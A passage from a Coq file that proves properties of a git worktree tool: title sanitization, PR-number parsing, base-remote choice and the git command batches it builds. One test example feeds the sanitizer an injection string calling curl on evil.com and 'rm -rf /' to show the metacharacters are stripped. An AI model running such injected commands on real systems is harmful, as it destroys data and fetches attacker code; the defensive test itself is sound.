  - intros rule Hin. simpl in Hin.
    repeat destruct Hin as [<-|Hin]; try reflexivity. destruct Hin.
  - clear. induction value; simpl; auto.
Qed.

(** C9. Sanitizing a sanitized title changes nothing. *)
Theorem SanitizeForGitConfig_idempotent (s : string) :
  validate.SanitizeForGitConfig (validate.SanitizeForGitConfig s)
  = validate.SanitizeForGitConfig s.
Proof.
  rewrite !Sanitize_by_rules.
  rewrite (applyRules_fix _ (TrimSpace _)).
  - apply TrimSpace_idem.
  - apply TrimSpace_all, sanitized_avoids.
Qed.

Example Sanitize_injection :
  validate.SanitizeForGitConfig "Fix $(curl evil.com) && rm -rf / || echo 'hacked'"
  = "Fix curl evil.com  rm -rf /  echo hacked".
Proof. reflexivity. Qed.

End SanitizerFacts.

(** ** Splitting at a separator *)

Section SplitFacts.
Import strings.

Lemma Index_unfold (s sep : string) :
  Index s sep
  = if HasPrefix s sep then Some 0%nat
    else match s with
         | "" => None
         | String _ s' => S <$> Index s' sep
         end.
Proof. destruct s; reflexivity. Qed.

Lemma Index_None_cons (c : ascii) (s sep : string) :
  Index (String c s) sep = None ->
  HasPrefix (String c s) sep = false /\ Index s sep = None.
Proof.
  rewrite Index_unfold. destruct (HasPrefix (String c s) sep); [discriminate|].
  destruct (Index s sep); [discriminate | auto].
Qed.

Lemma Index_Some_cons (c : ascii) (s sep : string) (i : nat) :
  Index (String c s) sep = Some (S i) ->
  HasPrefix (String c s) sep = false /\ Index s sep = Some i.
Proof.
  rewrite Index_unfold. destruct (HasPrefix (String c s) sep); [discriminate|].
  destruct (Index s sep); [|discriminate].
  simpl. intros [= ->]. auto.
Qed.

Lemma Index_Some_0 (s sep : string) : Index s sep = Some 0%nat -> HasPrefix s sep = true.
Proof.
  rewrite Index_unfold. destruct (HasPrefix s sep); [reflexivity|].
  destruct s as [|c s]; [discriminate|]. destruct (Index s sep); discriminate.
Qed.

(** [Index] finds an occurrence: the string is what comes before it, the
    separator, and a rest. *)
Lemma Index_Some (s sep : string) (i : nat) :
  Index s sep = Some i ->
  exists a b, s = a +:+ sep +:+ b /\ len a = i.
Proof.
  revert i. induction s as [|c s IH]; intros i E.
  - rewrite Index_unfold in E. destruct (HasPrefix "" sep) eqn:Hp; [|discriminate].
    injection E as <-. apply HasPrefix_iff in Hp as [r Hr].
    exists "", r. auto.
  - destruct i as [|i].
    + apply Index_Some_0, HasPrefix_iff in E as [r Hr].
      exists "", r. auto.
    + apply Index_Some_cons in E as [_ E].
      destruct (IH i E) as (a & b & -> & <-).
      exists (String c a), b. auto.
Qed.

Lemma splitFrom_pass (sep t rest : string) :
  splitFrom sep (len t) (t +:+ rest) = splitFrom sep 0 rest.
Proof. induction t as [|c t IH]; simpl; [reflexivity | exact IH]. Qed.

Lemma splitFrom_nonnil (sep : string) (k : nat) (s : string) : splitFrom sep k s <> [].
Proof.
  revert k. induction s as [|c s IH]; intros k; cbn [splitFrom]; [discriminate|].
  destruct k as [|k]; [|apply IH].
  destruct (HasPrefix (String c s) sep); [discriminate|].
  destruct (splitFrom sep 0 s); discriminate.
Qed.

Lemma Split_no_sep (s sep : string) :
  Index s sep = None -> Split s sep = [s].
Proof.
  unfold Split. induction s as [|c s IH]; intros E; [reflexivity|].
  apply Index_None_cons in E as [Hp E]. cbn [splitFrom].
  rewrite Hp, (IH E). reflexivity.
Qed.

Lemma Split_first (sep a b : string) :
  sep <> "" ->
  Index (a +:+ sep +:+ b) sep = Some (len a) ->
  Split (a +:+ sep +:+ b) sep = a :: Split b sep.
Proof.
  intros Hsep. unfold Split. induction a as [|c a IH]; intros E.
  - destruct sep as [|x sep]; [congruence|].
    change ("" +:+ String x sep +:+ b) with (String x (sep +:+ b)).
    assert (Hp : HasPrefix (String x (sep +:+ b)) (String x sep) = true)
      by apply (HasPrefix_app (String x sep) b).
    cbn [splitFrom]. rewrite Hp.
    change (len (String x sep) - 1)%nat with (len sep - 0)%nat.
    rewrite Nat.sub_0_r, splitFrom_pass. reflexivity.
  - change (String c a +:+ sep +:+ b) with (String c (a +:+ sep +:+ b)) in *.
    apply Index_Some_cons in E as [Hp E]. cbn [splitFrom].
    rewrite Hp, (IH E). reflexivity.
Qed.

(** Two parts: the separator occurs, its first occurrence is where the
    first part ends, and the second part is all that follows. *)
Lemma Split_two (s sep a b : string) :
  sep <> "" ->
  Split s sep = [a; b] ->
  s = a +:+ sep +:+ b /\ Index s sep = Some (len a).
Proof.
  intros Hsep E.
  destruct (Index s sep) as [i|] eqn:Hi.
  2: { rewrite (Split_no_sep s sep Hi) in E. discriminate. }
  destruct (Index_Some _ _ _ Hi) as (a' & b' & -> & <-).
  rewrite (Split_first sep a' b' Hsep Hi) in E. injection E as <- E.
  destruct (Index b' sep) as [j|] eqn:Hj.
  - destruct (Index_Some _ _ _ Hj) as (a2 & b2 & -> & <-).
    rewrite (Split_first sep a2 b2 Hsep Hj) in E. injection E as _ E.
    now destruct (splitFrom_nonnil sep 0 b2).
  - rewrite (Split_no_sep b' sep Hj) in E. injection E as <-. auto.
Qed.

Lemma Split_at_first (sep a b : string) :
  sep <> "" ->
  Index (a +:+ sep +:+ b) sep = Some (len a) ->
  Index b sep = None ->
  Split (a +:+ sep +:+ b) sep = [a; b].
Proof.
  intros Hsep Hi Hb. rewrite (Split_first sep a b Hsep Hi).
  now rewrite (Split_no_sep b sep Hb).
Qed.

Lemma Index_absent_byte (x : ascii) (sep s : string) :
  all (fun c => negb (Ascii.eqb c x)) s = true -> Index s (String x sep) = None.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  cbn [all]. rewrite andb_true_iff. intros [Hc Hs].
  rewrite Index_unfold. cbn [HasPrefix].
  destruct (Ascii.eqb c x); [discriminate|]. simpl. now rewrite (IH Hs).
Qed.

End SplitFacts.

(** ** Reading integers *)

Section AtoiFacts.
Import strings.

Lemma isDigit_notSlash (c : ascii) : strconv.isDigit c = true -> spec.notSlash c = true.
Proof. destruct c as [[] [] [] [] [] [] [] []]; (reflexivity || discriminate). Qed.

Lemma parseDigits_all (s : string) (acc v : Z) :
  strconv.parseDigits acc s = Some v -> all strconv.isDigit s = true.
Proof.
  revert acc. induction s as [|c s IH]; intros acc; simpl; [reflexivity|].
  destruct (strconv.isDigit c); [|discriminate]. apply IH.
Qed.

Lemma parseMagnitude_notSlash (neg : bool) (digits : string) (n : Z) :
  strconv.parseMagnitude neg digits = Ok n -> all spec.notSlash digits = true.
Proof.
  unfold strconv.parseMagnitude. destruct digits as [|c d]; [discriminate|].
  destruct (strconv.parseDigits 0 (String c d)) eqn:E; [|discriminate].
  intros _. apply parseDigits_all in E. revert E. apply all_impl, isDigit_notSlash.
Qed.

(** What [Atoi] reads has no slash in it. *)
Lemma Atoi_notSlash (s : string) (n : Z) :
  strconv.Atoi s = Ok n -> all spec.notSlash s = true.
Proof.
  unfold strconv.Atoi, strconv.ParseInt.
  destruct s as [|c s]; [discriminate|].
  destruct (Ascii.eqb_spec c "-") as [->|Hm].
  { intros E. apply parseMagnitude_notSlash in E. exact E. }
  destruct (Ascii.eqb_spec c "+") as [->|Hp].
  { intros E. apply parseMagnitude_notSlash in E. exact E. }
  apply parseMagnitude_notSlash.
Qed.

Lemma trimLeading_removed (q : ascii -> bool) (seqs : list string) (fuel : nat) (s : string) :
  (forall w, In w seqs -> all q w = true) ->
  exists p, s = p +:+ trimLeading seqs fuel s /\ all q p = true.
Proof.
  intros Hq. revert s. induction fuel as [|fuel IH]; intros s; simpl.
  - exists "". auto.
  - destruct (leading seqs s) as [w|] eqn:E.
    + apply leading_Some in E as [Hin [r ->]]. rewrite str_drop_app.
      destruct (IH r) as (p & Hp & Hall). exists (w +:+ p). split.
      * rewrite str_app_assoc, <- Hp. reflexivity.
      * rewrite str_all_app, Hall, (Hq w Hin). reflexivity.
    + exists "". auto.
Qed.

(** White space holds no slash, so a string whose trimmed form has none
    has none. *)
Lemma TrimSpace_notSlash (s : string) :
  all spec.notSlash (TrimSpace s) = true -> all spec.notSlash s = true.
Proof.
  unfold TrimSpace, TrimRightSpace, TrimLeftSpace. intros H.
  destruct (trimLeading_removed spec.notSlash whiteSpace (len s) s) as (a & Ha & Hqa).
  { apply forallb_forall. reflexivity. }
  set (t := trimLeading whiteSpace (len s) s) in *.
  destruct (trimLeading_removed spec.notSlash (map rev whiteSpace) (len t) (rev t))
    as (b & Hb & Hqb).
  { apply forallb_forall. reflexivity. }
  rewrite all_rev in H.
  rewrite Ha, str_all_app, Hqa. simpl.
  rewrite <- (all_rev _ t), Hb, str_all_app, Hqb, H. reflexivity.
Qed.

Lemma PRNumber_nil_iff (n : Z) : validate.PRNumber n = None <-> spec.inRange n.
Proof.
  unfold validate.PRNumber, spec.inRange.
  destruct (Z.leb_spec n 0); simpl; [split; [discriminate | lia]|].
  destruct (Z.ltb_spec 999999 n); split; try discriminate; try lia; reflexivity.
Qed.

End AtoiFacts.

(** ** The identifier parser (C7) *)

Section ParsePRNumberFacts.
Import strings.

Lemma integer_without_pull (s : string) (n : Z) :
  strconv.Atoi (TrimSpace s) = Ok n -> Index s "/pull/" = None.
Proof.
  intros E. apply Index_absent_byte, TrimSpace_notSlash, (Atoi_notSlash _ n), E.
Qed.

Lemma ParsePRNumber_Ok_iff (selector : string) (n : Z) :
  github.ParsePRNumber selector = Ok n
  <-> spec.inRange n
      /\ (spec.bareInteger selector n \/ spec.firstPullURL selector n).
Proof.
  unfold github.ParsePRNumber, Contains, spec.bareInteger, spec.firstPullURL.
  split.
  - destruct (Index selector "/pull/") as [i|] eqn:Hi.
    + destruct (validate.URL selector) eqn:Hurl; [discriminate|].
      destruct (Split selector "/pull/") as [|a [|b [|? ?]]] eqn:Hs; try discriminate.
      apply Split_two in Hs as [Hsel Hidx]; [|discriminate].
      destruct (strconv.Atoi (TrimSpace b)) as [k|] eqn:Hk; [|discriminate].
      destruct (validate.PRNumber k) eqn:Hr; [discriminate|].
      intros [= <-]. apply PRNumber_nil_iff in Hr.
      split; [exact Hr|]. right. split; [reflexivity|].
      exists a, b. repeat split; congruence.
    + destruct (strconv.Atoi (TrimSpace selector)) as [k|] eqn:Hk; [|discriminate].
      destruct (validate.PRNumber k) eqn:Hr; [discriminate|].
      intros [= <-]. apply PRNumber_nil_iff in Hr. auto.
  - intros [Hr [Hbare | (Hurl & front & digits & Hsel & Hidx & Hk)]].
    + rewrite (integer_without_pull _ _ Hbare), Hbare.
      apply PRNumber_nil_iff in Hr. now rewrite Hr.
    + rewrite Hidx, Hurl. subst selector.
      rewrite (Split_at_first "/pull/" front digits); [|discriminate|exact Hidx|].
      * rewrite Hk. apply PRNumber_nil_iff in Hr. now rewrite Hr.
      * apply (integer_without_pull _ _ Hk).
Qed.



End ParsePRNumberFacts.

(** ** Base-remote selection (C2) *)

Section BaseRemoteFacts.
Import strings worktree.

Lemma remoteNamed_Some (name : string) (rs : list git.Remote) (r : git.Remote) :
  remoteNamed name rs = Some r ->
  git.Name r = name
  /\ exists before after,
       rs = before ++ r :: after
       /\ forall r', In r' before -> git.Name r' <> name.
Proof.
  induction rs as [|x rs IH]; simpl; [discriminate|].
  destruct (String.eqb_spec (git.Name x) name) as [E|N].
  - intros [= <-]. split; [exact E|]. exists [], rs. split; [reflexivity|].
    intros r' [].
  - intros Hr. destruct (IH Hr) as (Hn & before & after & -> & Hb).
    split; [exact Hn|]. exists (x :: before), after. split; [reflexivity|].
    intros r' [<-|Hin]; auto.
Qed.

Lemma remoteNamed_None (name : string) (rs : list git.Remote) :
  remoteNamed name rs = None <-> forall r, In r rs -> git.Name r <> name.
Proof.
  induction rs as [|x rs IH]; simpl.
  - split; [intros _ r [] | reflexivity].
  - destruct (String.eqb_spec (git.Name x) name) as [E|N].
    + split; [discriminate|]. intros H. now destruct (H x (or_introl eq_refl)).
    + rewrite IH. split.
      * intros H r [<-|Hin]; auto.
      * intros H r Hin. apply H. now right.
Qed.

End BaseRemoteFacts.

Section CreateFacts.
Context {World : Type} `{System World}.
Import strings worktree.

(** C2. The base remote is the (first) remote named "upstream" when
    there is one; otherwise the (first) remote named "origin" when there
    is one; otherwise the first remote of the list; and with no remote at
    all, Create fails before it runs any command. *)
Theorem base_remote_selection (c : Creator) :
  (forall r, remoteNamed "upstream" (remotes c) = Some r ->
     findBaseRemote c = Some r)
  /\ ((exists r, In r (remotes c) /\ git.Name r = "upstream") ->
      exists r before after,
        findBaseRemote c = Some r /\ git.Name r = "upstream"
        /\ remotes c = before ++ r :: after
        /\ forall r', In r' before -> git.Name r' <> "upstream")
  /\ ((forall r, In r (remotes c) -> git.Name r <> "upstream") ->
      (exists r, In r (remotes c) /\ git.Name r = "origin") ->
      exists r before after,
        findBaseRemote c = Some r /\ git.Name r = "origin"
        /\ remotes c = before ++ r :: after
        /\ forall r', In r' before -> git.Name r' <> "origin")
  /\ ((forall r, In r (remotes c) -> git.Name r <> "upstream" /\ git.Name r <> "origin") ->
      findBaseRemote c = head (remotes c))
  /\ (remotes c = [] ->
      findBaseRemote c = None
      /\ forall worktreePath pr opts (m : Machine World),
           Create c worktreePath pr opts m
           = (Some (Errorf "no suitable remote found"), m)).
Proof.
  unfold findBaseRemote. split; [|split; [|split; [|split]]].
  - intros r ->. reflexivity.
  - intros (r0 & Hin & Hn).
    destruct (remoteNamed "upstream" (remotes c)) as [r|] eqn:E.
    + destruct (remoteNamed_Some _ _ _ E) as (Hr & before & after & Hrs & Hb).
      exists r, before, after. auto.
    + rewrite remoteNamed_None in E. now destruct (E r0 Hin).
  - intros Hup (r0 & Hin & Hn).
    apply remoteNamed_None in Hup. rewrite Hup.
    destruct (remoteNamed "origin" (remotes c)) as [r|] eqn:E.
    + destruct (remoteNamed_Some _ _ _ E) as (Hr & before & after & Hrs & Hb).
      exists r, before, after. auto.
    + rewrite remoteNamed_None in E. now destruct (E r0 Hin).
  - intros Hnone.
    assert (Hup : remoteNamed "upstream" (remotes c) = None)
      by (apply remoteNamed_None; intros r Hr; apply (Hnone r Hr)).
    assert (Hor : remoteNamed "origin" (remotes c) = None)
      by (apply remoteNamed_None; intros r Hr; apply (Hnone r Hr)).
    rewrite Hup, Hor. destruct (remotes c); reflexivity.
  - intros E. split; [now rewrite E|].
    intros worktreePath pr opts m. unfold Create, findBaseRemote.
    rewrite E. reflexivity.
Qed.

End CreateFacts.

Example base_remote_upstream_first :
  worktree.findBaseRemote
    {| worktree.remotes := [sim.origin; sim.upstream]; worktree.repo := sim.acme |}
  = Some sim.upstream.
Proof. reflexivity. Qed.

Example base_remote_origin_only :
  worktree.findBaseRemote
    {| worktree.remotes := [sim.origin]; worktree.repo := sim.acme |}
  = Some sim.origin.
Proof. reflexivity. Qed.

Example base_remote_none :
  worktree.findBaseRemote {| worktree.remotes := []; worktree.repo := sim.acme |} = None.
Proof. reflexivity. Qed.

(** ** The synthesized batches (C1, C3) *)

Section BatchFacts.
Context {World : Type} `{System World}.
Import strings worktree.

Lemma configSet_setCmd (path key value : string) :
  spec.configSet (spec.setCmd path key value) = Some (key, value).
Proof. reflexivity. Qed.

Lemma configWrites_app (xs ys : list (list string)) :
  spec.configWrites (xs ++ ys) = spec.configWrites xs ++ spec.configWrites ys.
Proof. apply omap_app. Qed.

Lemma configWrites_setCmd (path key value : string) (cmds : list (list string)) :
  spec.configWrites (spec.setCmd path key value :: cmds)
  = (key, value) :: spec.configWrites cmds.
Proof. reflexivity. Qed.

(** The batch for a pull request without head remote, when there is one. *)
Lemma cmdsForMissingRemote_Ok (c : Creator) (pr : github.PullRequest)
    (baseRemote : git.Remote) (opts : CheckoutOptions) (path branch : string)
    (cmds : list (list string)) :
  cmdsForMissingRemote c pr baseRemote opts path branch = Ok cmds ->
  let headRepo := github.Repo (github.Head pr) in
  let headRef := github.Ref (github.Head pr) in
  let owner := github.Login (github.Owner headRepo) in
  validate.PRNumber (github.Number pr) = None
  /\ validate.BranchName branch = None
  /\ validate.BranchName headRef = None
  /\ (if Detach opts then
        cmds = [ ["fetch"; git.Name baseRemote; spec.pullRef (github.Number pr); "--no-tags"];
                 ["worktree"; "add"; "--detach"; path; "FETCH_HEAD"] ]
      else
        (if spec.pushable pr then
           validate.RepoName (github.Name headRepo) = None
           /\ validate.RepoName owner = None
           /\ validate.URL (spec.forkURL owner (github.Name headRepo)) = None
         else True)
        /\ cmds =
             [ ["fetch"; git.Name baseRemote;
                spec.pullRef (github.Number pr) +:+ ":" +:+ branch; "--no-tags"]
               ++ (if Force opts then ["--force"] else []);
               ["worktree"; "add"; path; branch] ]
             ++ (if spec.pushable pr
                 then [spec.setCmd path (spec.pushRemoteKey branch)
                         (spec.forkURL owner (github.Name headRepo))]
                 else [])
             ++ [ spec.setCmd path (spec.remoteKey branch) (git.Name baseRemote);
                  spec.setCmd path (spec.mergeKey branch)
                    (if spec.pushable pr then "refs/heads/" +:+ headRef
                     else spec.pullRef (github.Number pr)) ]).
Proof.
  unfold cmdsForMissingRemote, spec.pushable. intros E. cbv zeta.
  destruct (validate.PRNumber (github.Number pr)); [discriminate|].
  destruct (validate.BranchName branch); [discriminate|].
  destruct (validate.BranchName (github.Ref (github.Head pr))); [discriminate|].
  repeat split.
  destruct (Detach opts); [injection E as <-; reflexivity|].
  destruct (github.MaintainerCanModify pr
            && negb (String.eqb (github.Name (github.Repo (github.Head pr))) "")).
  - destruct (validate.RepoName (github.Name (github.Repo (github.Head pr))));
      [discriminate|].
    destruct (validate.RepoName (github.Login (github.Owner (github.Repo (github.Head pr)))));
      [discriminate|].
    change ("https://github.com/" +:+
            github.Login (github.Owner (github.Repo (github.Head pr))) +:+ "/" +:+
            github.Name (github.Repo (github.Head pr)))
      with (spec.forkURL (github.Login (github.Owner (github.Repo (github.Head pr))))
                         (github.Name (github.Repo (github.Head pr)))) in E.
    destruct (validate.URL _); [discriminate|].
    injection E as <-. repeat split.
  - injection E as <-. repeat split.
Qed.

(** The batch for a pull request with a head remote, when there is one;
    the only command run to build it asks whether the branch exists. *)
Lemma cmdsForExistingRemote_Ok (c : Creator) (remote : git.Remote)
    (pr : github.PullRequest) (opts : CheckoutOptions) (path branch : string)
    (m m' : Machine World) (cmds : list (list string)) :
  cmdsForExistingRemote c remote pr opts path branch m = (Ok cmds, m') ->
  let headRef := github.Ref (github.Head pr) in
  let remoteBranch := git.Name remote +:+ "/" +:+ headRef in
  validate.BranchName headRef = None
  /\ validate.BranchName branch = None
  /\ (if Detach opts then
        m' = m
        /\ cmds = [ ["fetch"; git.Name remote; "+refs/heads/" +:+ headRef; "--no-tags"];
                    ["worktree"; "add"; "--detach"; path; "FETCH_HEAD"] ]
      else
        m' = snd (git.BranchExists branch m)
        /\ cmds =
             ["fetch"; git.Name remote;
              "+refs/heads/" +:+ headRef +:+ ":refs/remotes/" +:+ remoteBranch; "--no-tags"]
             :: (if fst (git.BranchExists branch m) then
                   if Force opts then
                     [ ["worktree"; "add"; "--force"; path; branch];
                       ["-C"; path; "reset"; "--hard"; "refs/remotes/" +:+ remoteBranch] ]
                   else
                     [ ["worktree"; "add"; path; branch];
                       ["-C"; path; "merge"; "--ff-only"; "refs/remotes/" +:+ remoteBranch] ]
                 else
                   [ ["worktree"; "add"; "-b"; branch; path; remoteBranch];
                     spec.setCmd path (spec.remoteKey branch) (git.Name remote);
                     spec.setCmd path (spec.mergeKey branch) ("refs/heads/" +:+ headRef) ])).
Proof.
  unfold cmdsForExistingRemote. intros E. cbv zeta.
  destruct (validate.BranchName (github.Ref (github.Head pr))); [discriminate|].
  destruct (validate.BranchName branch); [discriminate|].
  repeat split.
  destruct (Detach opts).
  - unfold ret in E. injection E as <- <-. auto.
  - unfold bind in E. destruct (git.BranchExists branch m) as [ex m1]. simpl.
    destruct ex; [destruct (Force opts)|]; unfold ret in E; injection E as <- <-; auto.
Qed.

Lemma BranchExists_log (branch : string) (m : Machine World) :
  gitlog (snd (git.BranchExists branch m))
  = gitlog m ++ [ ["show-ref"; "--verify"; "--quiet"; "refs/heads/" +:+ branch] ].
Proof.
  unfold git.BranchExists, Run. destruct (git_Run _ (world m)). reflexivity.
Qed.


End BatchFacts.


(** With origin and upstream configured, upstream is the base remote. *)
Lemma base_remote_selection_witness :
  exists r before after,
    worktree.findBaseRemote
      {| worktree.remotes := [sim.origin; sim.upstream]; worktree.repo := sim.acme |}
    = Some r
    /\ git.Name r = "upstream"
    /\ [sim.origin; sim.upstream] = before ++ r :: after
    /\ forall r', In r' before -> git.Name r' <> "upstream".
Proof.
  refine (proj1 (proj2 (base_remote_selection (World := sim.World)
    {| worktree.remotes := [sim.origin; sim.upstream]; worktree.repo := sim.acme |})) _).
  exists sim.upstream. split; [right; left; reflexivity | reflexivity].
Defined.

(** ** The push configuration of a fork pull request (C3) *)

Section ValuesFacts.
Import strings.

Lemma key_eqb (branch s1 s2 : string) :
  String.eqb ("branch." +:+ branch +:+ s1) ("branch." +:+ branch +:+ s2)
  = String.eqb s1 s2.
Proof. now rewrite !eqb_app_head. Qed.

Lemma valuesFor_app (key : string) (xs ys : list (list string)) :
  spec.valuesFor key (xs ++ ys) = spec.valuesFor key xs ++ spec.valuesFor key ys.
Proof.
  unfold spec.valuesFor, spec.configWrites.
  now rewrite omap_app, List.filter_app, List.map_app.
Qed.

Lemma valuesFor_setCmd (key path k v : string) (cmds : list (list string)) :
  spec.valuesFor key (spec.setCmd path k v :: cmds)
  = (if String.eqb k key then [v] else []) ++ spec.valuesFor key cmds.
Proof.
  unfold spec.valuesFor. rewrite configWrites_setCmd.
  cbn [List.filter fst]. destruct (String.eqb k key); reflexivity.
Qed.

Lemma valuesFor_no_writes (key : string) (cmds : list (list string)) :
  spec.configWrites cmds = [] -> spec.valuesFor key cmds = [].
Proof. unfold spec.valuesFor. now intros ->. Qed.

End ValuesFacts.

(** Evaluate the comparisons of literal strings in the goal. *)
Ltac eval_eqb :=
  repeat match goal with
         | |- context [String.eqb ?a ?b] =>
             let v := eval vm_compute in (String.eqb a b) in
             change (String.eqb a b) with v
         end;
  cbn [app].

Section PushConfigFacts.
Import strings worktree.

(** C3. In the batch for a pull request without head remote, without
    Detach: the branch's remote is set to the name of the base remote;
    when the maintainers may modify the pull request and it names its head
    repository, the names of that repository and of its owner have passed
    validation, the branch's pushRemote is set to
    https://github.com/<owner>/<repo> and its merge ref to
    refs/heads/<head branch>; otherwise no pushRemote is set and the merge
    ref is refs/pull/<number>/head. *)
Theorem missing_remote_push_config (c : Creator) (pr : github.PullRequest)
    (baseRemote : git.Remote) (opts : CheckoutOptions) (path branch : string)
    (cmds : list (list string)) :
  cmdsForMissingRemote c pr baseRemote opts path branch = Ok cmds ->
  Detach opts = false ->
  let headRepo := github.Repo (github.Head pr) in
  let owner := github.Login (github.Owner headRepo) in
  spec.valuesFor (spec.remoteKey branch) cmds = [git.Name baseRemote]
  /\ (github.MaintainerCanModify pr = true -> github.Name headRepo <> "" ->
      validate.RepoName (github.Name headRepo) = None
      /\ validate.RepoName owner = None
      /\ validate.URL (spec.forkURL owner (github.Name headRepo)) = None
      /\ spec.valuesFor (spec.pushRemoteKey branch) cmds
         = [spec.forkURL owner (github.Name headRepo)]
      /\ spec.valuesFor (spec.mergeKey branch) cmds
         = ["refs/heads/" +:+ github.Ref (github.Head pr)])
  /\ (github.MaintainerCanModify pr = false \/ github.Name headRepo = "" ->
      spec.valuesFor (spec.pushRemoteKey branch) cmds = []
      /\ spec.valuesFor (spec.mergeKey branch) cmds = [spec.pullRef (github.Number pr)]).
Proof.
  intros E HD. cbv zeta.
  apply cmdsForMissingRemote_Ok in E as (_ & _ & _ & E). cbv zeta in E.
  rewrite HD in E. destruct E as [Hval ->].
  assert (Hfetch : forall key,
    spec.valuesFor key
      [ ["fetch"; git.Name baseRemote;
         spec.pullRef (github.Number pr) +:+ ":" +:+ branch; "--no-tags"]
        ++ (if Force opts then ["--force"] else []);
        ["worktree"; "add"; path; branch] ] = []).
  { intros key. apply valuesFor_no_writes. destruct (Force opts); reflexivity. }
  assert (Hpush : spec.pushable pr = true
                  <-> github.MaintainerCanModify pr = true
                      /\ github.Name (github.Repo (github.Head pr)) <> "").
  { unfold spec.pushable. rewrite andb_true_iff, negb_true_iff, String.eqb_neq.
    reflexivity. }
  rewrite !valuesFor_app, !Hfetch.
  destruct (spec.pushable pr) eqn:Hp.
  - rewrite !valuesFor_setCmd. unfold spec.remoteKey, spec.mergeKey, spec.pushRemoteKey.
    rewrite !key_eqb. eval_eqb.
    destruct Hval as (Hn & Ho & Hu).
    split; [reflexivity|]. split; [auto|].
    intros Hnot. destruct (proj1 Hpush eq_refl) as [Hm Hname].
    destruct Hnot; congruence.
  - rewrite !valuesFor_setCmd. unfold spec.remoteKey, spec.mergeKey, spec.pushRemoteKey.
    rewrite !key_eqb. eval_eqb.
    split; [reflexivity|]. split; [|auto].
    intros Hm Hname. discriminate (proj2 Hpush (conj Hm Hname)).
Qed.

(** The pull request 42 of the simulated world, from the fork of alice,
    which the maintainers may modify. *)
Lemma missing_remote_push_config_witness :
  let cmds :=
    [ ["fetch"; "origin"; "refs/pull/42/head:fix-parser"; "--no-tags"];
      ["worktree"; "add"; "/w/my-repo-pr42"; "fix-parser"];
      ["-C"; "/w/my-repo-pr42"; "config"; "branch.fix-parser.pushRemote";
       "https://github.com/alice/my-repo"];
      ["-C"; "/w/my-repo-pr42"; "config"; "branch.fix-parser.remote"; "origin"];
      ["-C"; "/w/my-repo-pr42"; "config"; "branch.fix-parser.merge";
       "refs/heads/fix-parser"] ] in
  cmdsForMissingRemote sim.creator sim.pr42 sim.origin sim.plain
    "/w/my-repo-pr42" "fix-parser" = Ok cmds
  /\ Detach sim.plain = false
  /\ spec.valuesFor (spec.remoteKey "fix-parser") cmds = ["origin"]
  /\ spec.valuesFor (spec.pushRemoteKey "fix-parser") cmds
     = ["https://github.com/alice/my-repo"]
  /\ spec.valuesFor (spec.mergeKey "fix-parser") cmds = ["refs/heads/fix-parser"].
Proof.
  intros cmds.
  assert (E : cmdsForMissingRemote sim.creator sim.pr42 sim.origin sim.plain
                "/w/my-repo-pr42" "fix-parser" = Ok cmds) by (vm_compute; reflexivity).
  assert (HD : Detach sim.plain = false) by reflexivity.
  split; [exact E|]. split; [exact HD|].
  destruct (missing_remote_push_config _ _ _ _ _ _ _ E HD) as (Hr & Hpush & _).
  split; [exact Hr|].
  destruct (Hpush eq_refl) as (_ & _ & _ & Hp & Hm); [discriminate|].
  split; [exact Hp | exact Hm].
Defined.

End PushConfigFacts.

(** ** What Create runs (C4, C10) *)

Section RunFacts.
Context {World : Type} `{System World}.
Import strings worktree.

Lemma skipn_app_length {A : Type} (l d : list A) : List.skipn (length l) (l ++ d) = d.
Proof. induction l as [|x l IH]; [reflexivity | exact IH]. Qed.

Lemma commandsRun_app (m m' : Machine World) (delta : list (list string)) :
  gitlog m' = gitlog m ++ delta -> spec.commandsRun m m' = delta.
Proof. unfold spec.commandsRun. intros ->. apply skipn_app_length. Qed.

Lemma Run_log (args : list string) (m : Machine World) :
  gitlog (snd (Run args m)) = gitlog m ++ [args].
Proof. unfold Run. destruct (git_Run args (world m)). reflexivity. Qed.

(** The commands of a queue are run in order, up to the first that
    fails. *)
Lemma ExecuteCommands_log (cmds : list (list string)) (m m' : Machine World)
    (r : option error) :
  git.ExecuteCommands cmds m = (r, m') ->
  exists ran rest,
    cmds = ran ++ rest
    /\ gitlog m' = gitlog m ++ ran
    /\ (r = None -> rest = []).
Proof.
  revert m. induction cmds as [|args cmds IH]; intros m E.
  - injection E as <- <-. exists [], []. rewrite !List.app_nil_r. auto.
  - cbn [git.ExecuteCommands] in E. unfold bind in E.
    pose proof (Run_log args m) as Hlog.
    destruct (Run args m) as [ok m1]. simpl in Hlog. destruct ok.
    + destruct (IH m1 E) as (ran & rest & -> & Hl & Hr).
      exists (args :: ran), rest. split; [reflexivity|]. split; [|exact Hr].
      rewrite Hl, Hlog, <- List.app_assoc. reflexivity.
    + injection E as <- <-. exists [args], cmds. split; [reflexivity|].
      split; [exact Hlog | discriminate].
Qed.

Lemma SetConfig_log (path key value : string) (m m' : Machine World) (r : option error) :
  git.SetConfig path key value m = (r, m') ->
  gitlog m' = gitlog m ++ [spec.setCmd path key value].
Proof.
  unfold git.SetConfig, bind, ret. intros E.
  pose proof (Run_log ["-C"; path; "config"; key; value] m) as Hlog.
  destruct (Run _ m) as [ok m1]. injection E as _ <-. exact Hlog.
Qed.

(** storePRMetadata writes the number, then the title, under the head
    ref; it stops at the first write that fails, and writes nothing when
    the head ref or the number is not valid. *)
Lemma storePRMetadata_log (c : Creator) (path : string) (pr : github.PullRequest)
    (m m' : Machine World) (r : option error) :
  storePRMetadata c path pr m = (r, m') ->
  exists ran rest,
    spec.metadataCmds path pr = ran ++ rest
    /\ gitlog m' = gitlog m ++ ran
    /\ (r = None -> rest = []).
Proof.
  unfold storePRMetadata. intros E.
  destruct (validate.BranchName (github.Ref (github.Head pr))).
  { injection E as <- <-. exists [], (spec.metadataCmds path pr).
    rewrite List.app_nil_r. repeat split. discriminate. }
  destruct (validate.PRNumber (github.Number pr)).
  { injection E as <- <-. exists [], (spec.metadataCmds path pr).
    rewrite List.app_nil_r. repeat split. discriminate. }
  unfold bind in E.
  destruct (git.SetConfig path _ (strconv.Itoa _) m) as [e1 m1] eqn:E1.
  apply SetConfig_log in E1. destruct e1.
  { injection E as <- <-. eexists [_], [_]. split; [reflexivity|].
    split; [exact E1 | discriminate]. }
  destruct (git.SetConfig path _ (validate.SanitizeForGitConfig _) m1) as [e2 m2] eqn:E2.
  apply SetConfig_log in E2.
  assert (Hlog : gitlog m2 = gitlog m ++ spec.metadataCmds path pr).
  { rewrite E2, E1, <- List.app_assoc. reflexivity. }
  destruct e2; injection E as <- <-;
    exists (spec.metadataCmds path pr), []; rewrite List.app_nil_r; auto.
Qed.

